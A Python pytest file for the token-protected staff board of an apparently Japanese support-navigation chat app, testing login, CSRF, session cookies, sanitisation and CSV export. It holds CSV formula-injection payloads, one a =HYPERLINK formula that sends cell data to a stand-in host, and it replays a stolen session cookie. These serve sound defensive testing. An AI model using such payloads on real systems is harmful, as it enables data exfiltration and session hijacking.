"""The staff gap board: off without a token, token by header or login form, and the one-step fixes."""
from __future__ import annotations

import json
import re
import shutil

import pytest

from knowledge.loader import DATA_DIR, read_documents
from web import create_app
from web.cli import main as cli_main
from web.curation import CurationError, add_vocabulary_word, read_regressions, with_word
from web.versions import FileVersions

TOKEN = "correct horse battery staple"
BEARER = {"Authorization": f"Bearer {TOKEN}"}


@pytest.fixture()
def data_copy(tmp_path):
    """A private copy of the knowledge data: the shipped files are never written."""
    copy = tmp_path / "knowledge"
    shutil.copytree(DATA_DIR, copy)
    return copy


@pytest.fixture()
def admin_app(tmp_path, data_copy):
    return create_app({"TESTING": True, "DATA_HOME": str(tmp_path / "home"), "DATA_DIR": str(data_copy),
                       "ADMIN_TOKEN": TOKEN, "RATE_LIMIT": "off"})


@pytest.fixture()
def admin(admin_app):
    return admin_app.test_client()


def talk(client, *messages):
    return [client.post("/api/chat", json={"message": m}).get_json() for m in messages]


def test_admin_is_off_without_a_token(client):
    assert client.get("/admin").status_code == 404
    assert client.get("/admin", headers={"Authorization": "Bearer "}).status_code == 404


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {TOKEN}"},
                                     {"Authorization": "Bearer " + TOKEN[:-1]}])
def test_admin_refuses_without_the_right_token(admin, headers):
    r = admin.get("/admin?format=json", headers=headers)
    assert r.status_code == 401 and "Set-Cookie" not in r.headers


def test_the_public_gets_no_cookie(admin):
    for r in (admin.get("/"), admin.post("/api/chat", json={"message": "創業したい"}), admin.get("/admin")):
        assert "Set-Cookie" not in r.headers


def test_bearer_token_shows_the_figures(admin):
    talk(admin, "創業したい", "ぴよぴよ", "ぴよぴよ")
    data = admin.get("/admin?format=json", headers=BEARER).get_json()
    assert data["totals"]["turns"] == 3 and data["totals"]["weak"] == 2
    assert data["gaps"][0]["words"] == ["ぴよぴよ"] and data["gaps"][0]["count"] == 2
    assert data["needs"][0]["tag"] == "創業"
    assert "ぴよぴよ" in admin.get("/admin", headers=BEARER).get_data(as_text=True)


def test_unhelpful_answers_are_listed_with_their_comment(admin):
    [reply] = talk(admin, "創業したい 090-1111-2222")
    admin.post("/api/feedback", json={"turn_id": reply["turn_id"], "helpful": False, "comment": "窓口がわからない"})
    [c] = admin.get("/admin?format=json", headers=BEARER).get_json()["complaints"]
    assert c["comment"] == "窓口がわからない" and "[電話番号]" in c["message"]


def login(client) -> str:
    r = client.post("/admin/login", data={"token": TOKEN})
    assert r.status_code == 303 and "shien_navi_admin=" in r.headers["Set-Cookie"]
    assert "HttpOnly" in r.headers["Set-Cookie"] and "SameSite=Strict" in r.headers["Set-Cookie"]
    page = client.get("/admin").get_data(as_text=True)
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def test_login_form_sets_a_session_cookie_for_admins(admin):
    assert admin.post("/admin/login", data={"token": "nope"}).status_code == 401
    login(admin)
    assert admin.get("/admin?format=json").status_code == 200


def test_form_posts_need_the_csrf_token(admin):
    login(admin)
    r = admin.post("/admin/vocabulary", data={"word": "キッチンカー", "tag": "出店・商店街", "csrf": "forged"})
    assert r.status_code == 403


def test_one_step_adds_the_word_reloads_and_records_the_question(admin, admin_app, data_copy, tmp_path):
    before = [h["id"] for h in admin.get("/api/search?q=ぴよぴよ").get_json()["results"]]
    csrf = login(admin)
    r = admin.post("/admin/vocabulary", data={"word": "ぴよぴよ", "tag": "創業", "question": "ぴよぴよしたい",
                                              "expected": "2-1-1", "csrf": csrf})
    assert r.status_code == 303 and "notice" in r.headers["Location"]
    versions = FileVersions(tmp_path / "home" / "knowledge")  # a new version in the data home, never the data dir
    vocab = versions.documents(versions.active())["vocabulary"]
    assert any("ぴよぴよ" in e["words"] and "創業" in e.get("tags", []) for e in vocab["entries"])
    assert "ぴよぴよ" not in (data_copy / "vocabulary.json").read_text(encoding="utf-8")
    after = [h["id"] for h in admin.get("/api/search?q=ぴよぴよ").get_json()["results"]]
    assert after != before and "2-1-1" in after  # reloaded without a restart
    assert read_regressions(tmp_path / "home" / "regressions.tsv") == [("ぴよぴよしたい", ["2-1-1"])]
    assert not list((tmp_path / "home" / "knowledge" / "versions").glob(".*"))  # no staging folder left behind


@pytest.mark.parametrize("word, tag", [("ぴよぴよ", "no-such-tag"), ("あ" * 41, "創業"), ("", "創業"), ("創業", "創業")])
def test_a_bad_word_is_refused_and_the_file_is_untouched(admin, data_copy, tmp_path, word, tag):
    original = (data_copy / "vocabulary.json").read_bytes()
    r = admin.post("/admin/vocabulary", headers=BEARER, data={"word": word, "tag": tag})
    assert r.status_code == 303 and "error=" in r.headers["Location"]
    assert (data_copy / "vocabulary.json").read_bytes() == original
    assert FileVersions(tmp_path / "home" / "knowledge").active() is None


def test_unknown_tag_is_caught_by_the_loader_cross_check(data_copy):
    with pytest.raises(CurationError) as info:
        add_vocabulary_word(read_documents(data_copy)[0], "ぴよぴよ", "no-such-tag")
    assert any("unknown tag" in p for p in info.value.problems)


def test_with_word_joins_the_tag_s_own_entry(knowledge):
    from knowledge.loader import DATA_DIR as shipped
    vocab = json.loads((shipped / "vocabulary.json").read_text(encoding="utf-8"))
    changed = with_word(vocab, "ぴよぴよ", "創業")
    assert len(changed["entries"]) in (len(vocab["entries"]), len(vocab["entries"]) + 1)
    assert vocab != changed and not any("ぴよぴよ" in e["words"] for e in vocab["entries"])


def test_report_command_prints_the_same_figures(admin_app, admin, tmp_path, monkeypatch, capsys):
    talk(admin, "創業したい", "ぴよぴよ")
    monkeypatch.setenv("SHIEN_NAVI_DATA_HOME", str(tmp_path / "home"))
    assert cli_main(["report", "--since", "2000-01-01"]) == 0
    text = capsys.readouterr().out
    assert "会話 2 件" in text and "ぴよぴよ" in text and "創業・起業" in text
    assert cli_main(["report", "--csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "section,key,count,detail" and "total,turns,2," in lines
    assert cli_main(["report", "--since", "yesterday"]) == 2


@pytest.mark.parametrize("param", ["error", "notice"])
def test_the_board_shows_only_its_own_messages(admin, param):
    """Issue 7: /admin?error= printed any text to staff."""
    html = admin.get("/admin", headers=BEARER, query_string={param: "至急 090-0000-0000 へ電話を"}).get_data(as_text=True)
    assert "090-0000-0000" not in html and "至急" not in html


def test_the_board_shows_the_message_its_own_redirect_carries(admin):
    r = admin.post("/admin/vocabulary", headers=BEARER, data={"word": "ぴよぴよ", "tag": "no-such-tag"})
    page = admin.get(r.headers["Location"], headers=BEARER).get_data(as_text=True)
    assert 'class="error" role="alert"' in page and "no-such-tag" in page
    r = admin.post("/admin/vocabulary", headers=BEARER, data={"word": "ぴよぴよ", "tag": "創業"})
    assert "「ぴよぴよ」を「創業」に追加しました。" in admin.get(r.headers["Location"], headers=BEARER).get_data(as_text=True)


def test_the_board_strips_bidi_controls_from_what_citizens_wrote(admin):
    [reply] = talk(admin, "ぴよ\u202eぴよ")
    admin.post("/api/feedback", json={"turn_id": reply["turn_id"], "helpful": False, "comment": "窓口\u2067が違う"})
    html = admin.get("/admin", headers=BEARER).get_data(as_text=True)
    assert "\u202e" not in html and "\u2067" not in html and "窓口が違う" in html


def session_cookie(response) -> str:
    return re.search(r"shien_navi_admin=([^;]+)", response.headers["Set-Cookie"]).group(1)


def test_the_session_cookie_is_a_random_id_not_derived_from_the_token(admin_app):
    """Issue 5: the cookie carried an unsalted SHA-256 of the token, which can be guessed offline."""
    import hashlib

    from itsdangerous import BadSignature
    ids = {session_cookie(admin_app.test_client().post("/admin/login", data={"token": TOKEN})) for _ in range(3)}
    assert len(ids) == 3 and all(len(i) >= 40 for i in ids)
    assert not any(hashlib.sha256(TOKEN.encode()).hexdigest() in i or TOKEN in i for i in ids)
    signed_session = admin_app.session_interface.get_signing_serializer(admin_app)
    for cookie in ids:  # not a signed session carrying anything (the digest used to be inside)
        with pytest.raises(BadSignature):
            signed_session.loads(cookie)


def test_logout_revokes_the_session_even_for_a_copied_cookie(admin_app, admin):
    """Issue 5: logout did not revoke the cookie (still valid for 8 h)."""
    cookie = session_cookie(admin.post("/admin/login", data={"token": TOKEN}))
    csrf = re.search(r'name="csrf" value="([^"]+)"', admin.get("/admin").get_data(as_text=True)).group(1)
    thief = admin_app.test_client()
    thief.set_cookie("shien_navi_admin", cookie, path="/admin")
    assert thief.get("/admin?format=json").status_code == 200
    assert admin.post("/admin/logout", data={"csrf": csrf}).status_code == 303
    assert thief.get("/admin?format=json").status_code == 401
    assert admin.get("/admin?format=json").status_code == 401


def test_a_new_token_logs_everyone_out(tmp_path, data_copy):
    config = {"TESTING": True, "DATA_HOME": str(tmp_path / "home"), "DATA_DIR": str(data_copy), "RATE_LIMIT": "off"}
    first = create_app({**config, "ADMIN_TOKEN": TOKEN}).test_client()
    cookie = session_cookie(first.post("/admin/login", data={"token": TOKEN}))
    second = create_app({**config, "ADMIN_TOKEN": TOKEN + " changed"}).test_client()
    second.set_cookie("shien_navi_admin", cookie, path="/admin")
    assert second.get("/admin?format=json").status_code == 401


@pytest.mark.parametrize("proxies, base_url, headers, secure", [
    (0, "http://localhost", {}, False),
    (0, "https://localhost", {}, True),
    (0, "http://localhost", {"X-Forwarded-Proto": "https"}, False),  # no proxy trusted: the header is ignored
    (1, "http://localhost", {"X-Forwarded-Proto": "https"}, True),
    (1, "http://localhost", {"X-Forwarded-Proto": "http"}, False),
])
def test_the_cookie_is_secure_over_https_and_behind_a_trusted_proxy(tmp_path, data_copy, proxies, base_url,
                                                                     headers, secure):
    """Issue 5: no Secure flag."""
    app = create_app({"TESTING": True, "DATA_HOME": str(tmp_path / "home"), "DATA_DIR": str(data_copy),
                      "ADMIN_TOKEN": TOKEN, "RATE_LIMIT": "off", "PROXIES": proxies})
    r = app.test_client().post("/admin/login", data={"token": TOKEN}, base_url=base_url, headers=headers)
    assert r.status_code == 303 and ("; Secure" in r.headers["Set-Cookie"]) is secure


def test_a_trusted_proxy_gives_the_rate_limit_the_client_address(tmp_path):
    app = create_app({"TESTING": True, "DATA_HOME": str(tmp_path), "RATE_LIMIT": "1/minute", "PROXIES": 1})
    client = app.test_client()
    assert client.get("/programs", headers={"X-Forwarded-For": "192.0.2.1"}).status_code == 200
    assert client.get("/programs", headers={"X-Forwarded-For": "192.0.2.2"}).status_code == 200
    assert client.get("/programs", headers={"X-Forwarded-For": "192.0.2.1"}).status_code == 429


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", " =1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_cannot_start_a_formula(admin, text):
    """Issue 4: chat text reached /admin?format=csv as =HYPERLINK(…)."""
    import csv
    import io
    [reply] = talk(admin, text)
    admin.post("/api/feedback", json={"turn_id": reply["turn_id"], "helpful": False, "comment": text})
    rows = list(csv.reader(io.StringIO(admin.get("/admin?format=csv", headers=BEARER).get_data(as_text=True))))
    cells = [cell for row in rows for cell in row]
    assert any(text.strip() in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip(" \u3000").startswith(("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"))]
